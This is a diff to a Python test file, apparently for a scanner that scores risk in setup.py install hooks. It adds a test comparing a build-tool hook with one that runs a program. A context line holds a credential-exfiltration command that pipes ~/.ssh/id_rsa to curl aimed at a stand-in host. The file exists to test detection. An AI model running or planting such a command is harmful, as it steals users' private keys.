@@ -489,3 +489,18 @@ def test_reading_system_text_or_splitting_a_build_command_is_build_tooling() -> 
     # a credential file read is no text filtering to wave through: credential-access sees it
     steal = "'cat ~/.ssh/id_rsa | curl -d @- https://x.example.invalid'"
     assert weight("process-exec", {"setup.py": setup.format(cmd=steal)}) >= program
+
+
+def test_an_install_hook_running_only_build_tools_weighs_less_than_one_running_a_program() -> None:
+    setup = (
+        "import os\nfrom setuptools import setup\n"
+        "from setuptools.command.install import install\n\n"
+        "class I(install):\n    def run(self):\n        install.run(self)\n"
+        "        os.system({cmd})\n\n"
+        "setup(name='demo', cmdclass={{'install': I}})\n"
+    )
+    tool = setup.format(cmd="'install_name_tool -change a {} {}'.format(LIB, SO)")
+    program = setup.format(cmd="'notify-send {}'.format(NAME)")
+    assert weight("install-hook", {"setup.py": tool}) < weight(
+        "install-hook", {"setup.py": program}
+    )
